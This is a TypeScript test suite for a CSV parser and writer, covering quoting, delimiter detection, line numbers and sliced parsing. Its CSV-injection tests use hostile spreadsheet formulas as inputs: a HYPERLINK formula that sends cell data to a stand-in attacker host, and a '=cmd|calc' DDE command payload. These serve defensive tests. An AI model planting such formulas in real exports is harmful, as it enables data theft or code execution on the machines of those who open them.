import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '../errors';
import { parseCsv, parseCsvInSlices, toCsv } from './csv';

describe('parseCsv', () => {
  it('reads quoted values with doubled quotes, delimiters and empty values', () => {
    const text = 'Name,Notes,Tags\r\n"Dufour, Camille","She said ""call after 10""",\r\n"",plain,"a,b"\r\n';
    expect(parseCsv(text)).toEqual({
      header: ['Name', 'Notes', 'Tags'],
      rows: [
        { line: 2, values: ['Dufour, Camille', 'She said "call after 10"', ''] },
        { line: 3, values: ['', 'plain', 'a,b'] },
      ],
      delimiter: ',',
    });
  });

  it('keeps line breaks inside quotes and still reports the physical start line of each record', () => {
    const text = [
      'Name,Notes',
      '"Camille","line one',
      'line two',
      'line three"',
      'Daniel,"crlf\r\ninside"',
      'Leyla,last',
    ].join('\r\n');
    const { rows } = parseCsv(text);
    expect(rows).toEqual([
      { line: 2, values: ['Camille', 'line one\r\nline two\r\nline three'] },
      { line: 5, values: ['Daniel', 'crlf\r\ninside'] },
      { line: 7, values: ['Leyla', 'last'] },
    ]);
  });

  it('counts LF-only and lone-CR line ends, and skips empty lines without losing count', () => {
    expect(parseCsv('a,b\n1,2\n\n"x\ny",3\n').rows).toEqual([
      { line: 2, values: ['1', '2'] },
      { line: 4, values: ['x\ny', '3'] },
    ]);
    expect(parseCsv('a,b\r1,2\r\r3,4').rows).toEqual([
      { line: 2, values: ['1', '2'] },
      { line: 4, values: ['3', '4'] },
    ]);
  });

  it('detects ";" from a European Excel header and keeps commas in values', () => {
    const text = '\uFEFFNom;Courriel;Médias\r\n"Dufour; Camille";camille@example.org;Tribune, édition du soir\r\n';
    expect(parseCsv(text)).toEqual({
      header: ['Nom', 'Courriel', 'Médias'],
      rows: [{ line: 2, values: ['Dufour; Camille', 'camille@example.org', 'Tribune, édition du soir'] }],
      delimiter: ';',
    });
  });

  it('detects TAB, ignores delimiters inside quoted header names, and honours an explicit delimiter', () => {
    expect(parseCsv('Name\tEmail\nA\ta@example.org').delimiter).toBe('\t');
    expect(parseCsv('"Name; full",Email,Phone\nA,b,c').delimiter).toBe(',');
    expect(parseCsv('a;b,c\n1;2,3', { delimiter: ',' }).rows[0]?.values).toEqual(['1;2', '3']);
    expect(parseCsv('Name\nA').delimiter).toBe(',');
  });

  it("takes the delimiter from Excel's sep= line and skips it, keeping line numbers physical", () => {
    expect(parseCsv('sep=;\r\nName;Email\r\nA,B;a@example.org\r\n')).toEqual({
      header: ['Name', 'Email'],
      rows: [{ line: 3, values: ['A,B', 'a@example.org'] }],
      delimiter: ';',
    });
  });

  it('strips the byte order mark and trims header names only', () => {
    expect(parseCsv('\uFEFF Name , Email \n  A  , b ')).toMatchObject({
      header: ['Name', 'Email'],
      rows: [{ line: 2, values: ['  A  ', ' b '] }],
    });
  });

  it('reads stray quotes instead of refusing the file, keeping text after a closing quote as written', () => {
    expect(parseCsv('a,b\n5" floppy,"quoted"tail\n').rows[0]?.values).toEqual(['5" floppy', '"quoted"tail']);
  });

  it('reads CRLF, LF and lone CR line ends mixed in one file', () => {
    expect(parseCsv('a,b\r\n1,2\n3,4\r5,6\r\n\r\n7,8').rows).toEqual([
      { line: 2, values: ['1', '2'] },
      { line: 3, values: ['3', '4'] },
      { line: 4, values: ['5', '6'] },
      { line: 6, values: ['7', '8'] },
    ]);
  });

  it('keeps a row of one quoted empty value, which is not an empty line', () => {
    expect(parseCsv('a\n""\n\nx\n').rows).toEqual([
      { line: 2, values: [''] },
      { line: 4, values: ['x'] },
    ]);
  });

  it('keeps short and long rows as they are, and a trailing delimiter as an empty value', () => {
    expect(parseCsv('a,b,c\n1\n1,2,3,4\n1,2,\n').rows.map((row) => row.values)).toEqual([['1'], ['1', '2', '3', '4'], ['1', '2', '']]);
  });

  it('refuses a quoted value that is never closed, naming the line where it opens', () => {
    let caught: unknown;
    try {
      parseCsv('Name,Notes\nA,ok\nB,"never\nclosed\n');
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(AppError);
    expect(caught).toMatchObject({ code: 'VALIDATION_FAILED', message: 'Line 3: a quoted value is never closed', details: { line: 3 } });
  });

  it('names the line of an unclosed quote after earlier quoted line breaks and CRLF ends', () => {
    expect(() => parseCsv('Name,Notes\r\n"A","two\r\nlines"\r\nB,"open\r\n')).toThrow('Line 4: a quoted value is never closed');
  });

  it('returns nothing for empty text', () => {
    expect(parseCsv('')).toEqual({ header: [], rows: [], delimiter: ',' });
    expect(parseCsv('\uFEFF')).toEqual({ header: [], rows: [], delimiter: ',' });
  });

  it('removes one formula-guard apostrophe, unless asked to keep it', () => {
    const text = "a,b,c\n'+41780000000,'=1+1,'plain\n";
    expect(parseCsv(text).rows[0]?.values).toEqual(['+41780000000', '=1+1', "'plain"]);
    expect(parseCsv(text, { keepFormulaGuards: true }).rows[0]?.values).toEqual(["'+41780000000", "'=1+1", "'plain"]);
  });
});

describe('toCsv', () => {
  it('quotes only when needed, doubles quotes, writes CRLF after every record', () => {
    expect(
      toCsv(
        ['Name', 'Notes'],
        [
          ['Dufour, Camille', 'says "hi"'],
          ['Okafor', 'two\nlines'],
          ['Semi;colon', null],
          [' padded ', undefined],
          ['Zoë Müller-Łukasiewicz', '李小龍 🎙️'],
        ],
      ),
    ).toBe(
      'Name,Notes\r\n"Dufour, Camille","says ""hi"""\r\nOkafor,"two\nlines"\r\n"Semi;colon",\r\n" padded ",\r\nZoë Müller-Łukasiewicz,李小龍 🎙️\r\n',
    );
  });

  it('neutralises cells a spreadsheet would run as formulas (CSV injection)', () => {
    const csv = toCsv(
      ['Name'],
      [['=HYPERLINK("http://evil.example/?"&A1,"click")'], ['+41 78 000 00 00'], ['-2+3'], ['@SUM(A1)'], ['\t=1'], ['\r=1'], ["'=1"], ["'ok"]],
    );
    const cells = csv.split('\r\n').slice(1, -1);
    expect(cells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      "'+41 78 000 00 00",
      "'-2+3",
      "'@SUM(A1)",
      `"'\t=1"`,
      `"'\r=1"`,
      "''=1",
      "'ok",
    ]);
    // Apple Numbers also reads the full-width forms as formula characters (csv-stringify's list).
    expect(toCsv(['Name'], [['\uFF1D1+1'], ['\uFF0B1']])).toBe("Name\r\n'\uFF1D1+1\r\n'\uFF0B1\r\n");
    expect(parseCsv("Name\n'\uFF1D1+1\n").rows[0]?.values).toEqual(['\uFF1D1+1']);
    // No cell of the export starts with a formula character.
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('can write a byte order mark for Excel and a ";" delimiter', () => {
    expect(toCsv(['a', 'b'], [['1,5', '2']], { delimiter: ';', byteOrderMark: true })).toBe('\uFEFFa;b\r\n"1,5";2\r\n');
  });

  it('round-trips through parseCsv, formula guards and all, for any text', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.stringMatching(/^'*[=+\-@\t\r]?[a-z,;"\r\n ]{0,6}$/),
    );
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }), fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 8 }), (columns, rows) => {
        // Header names are trimmed by parseCsv, so generate them already trimmed and non-empty.
        const header = Array.from({ length: columns }, (_, index) => `Column ${index + 1}`);
        const table = rows.map((row) => row.slice(0, columns));
        // A row of one empty value is indistinguishable from an empty line, which parseCsv skips.
        const expected = table.filter((row) => !(row.length === 1 && row[0] === ''));
        const parsed = parseCsv(toCsv(header, table));
        expect(parsed.header).toEqual(header);
        expect(parsed.rows.map((row) => row.values)).toEqual(expected);
      }),
      { numRuns: 300 },
    );
  });

  it('round-trips 5,000 media contacts with their line numbers', () => {
    const header = ['Name', 'Email', 'Phone', 'Outlet', 'Notes', 'Tags'];
    const rows = Array.from({ length: 5_000 }, (_, index) => [
      index % 7 === 0 ? `Müller-Łukasiewicz, Zoë ${index}` : `Journalist ${index}`,
      `journalist.${index}@example.org`,
      index % 3 === 0 ? '+41780000000' : '',
      index % 5 === 0 ? 'Lakeside Tribune; "Evening"' : 'Example Wire Service',
      index % 11 === 0 ? 'Prefers calls\nafter 10:00 CET' : '',
      index % 13 === 0 ? '=cmd|calc' : 'demo',
    ]);
    const parsed = parseCsv(toCsv(header, rows));
    expect(parsed.rows.map((row) => row.values)).toEqual(rows);
    // Line numbers account for the embedded line breaks in the notes.
    expect(parsed.rows.at(-1)?.line).toBe(1 + 5_000 + rows.filter((row) => row[4]!.includes('\n')).length);
  });
});

describe('parseCsvInSlices', () => {
  const pause = () => Promise.resolve();

  it('reads the same as parseCsv when slices split CRLF pairs, quoted values and characters outside the BMP', async () => {
    const text = '\uFEFFName;Notes\r\n"Zoë; Müller";"🎙️ two\r\nlines"\r\n\r\nŁukasz;李小龍\rlast;"x""y"\n';
    const whole = parseCsv(text);
    expect(whole.rows).toHaveLength(3);
    for (const sliceLength of [1, 2, 3, 5, 7, 64]) {
      expect(await parseCsvInSlices(text, { pause, sliceLength }), `slices of ${sliceLength} characters`).toEqual(whole);
    }
  });

  it('reports progress and refuses an unclosed quote with its line, like parseCsv', async () => {
    const counts: number[] = [];
    const text = ['a', ...Array.from({ length: 2_500 }, (_, index) => String(index))].join('\n');
    await parseCsvInSlices(text, { pause, onRecord: (count) => counts.push(count), sliceLength: 100 });
    expect(counts).toEqual([1_000, 2_000]);
    await expect(parseCsvInSlices('a,b\n1,"2\n3\n', { pause, sliceLength: 2 })).rejects.toMatchObject({ code: 'VALIDATION_FAILED', details: { line: 2 } });
  });
});
